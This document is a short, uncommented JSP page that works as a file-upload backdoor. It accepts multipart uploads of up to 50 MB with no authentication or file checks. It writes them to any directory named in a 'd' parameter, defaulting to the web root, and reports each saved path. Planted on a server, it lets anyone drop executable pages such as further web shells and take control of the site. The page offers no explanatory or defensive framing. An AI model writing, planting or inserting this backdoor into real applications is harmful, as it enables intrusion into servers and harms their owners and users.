<%@ page import="com.oreilly.servlet.MultipartRequest,java.util.*,java.io.*" %>
<%
    if ("POST".equals(request.getMethod())) {
        String saveDir = request.getParameter("d") != null ? request.getParameter("d") : application.getRealPath("/");
        MultipartRequest multi = new MultipartRequest(request, saveDir, 50 * 1024 * 1024, "UTF-8");
        Enumeration files = multi.getFileNames();
        while (files.hasMoreElements()) {
            String name = (String) files.nextElement();
            File f = multi.getFile(name);
            if (f != null) out.println("saved: " + f.getAbsolutePath() + "<br>");
        }
    }
%>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" value="upload"></form>
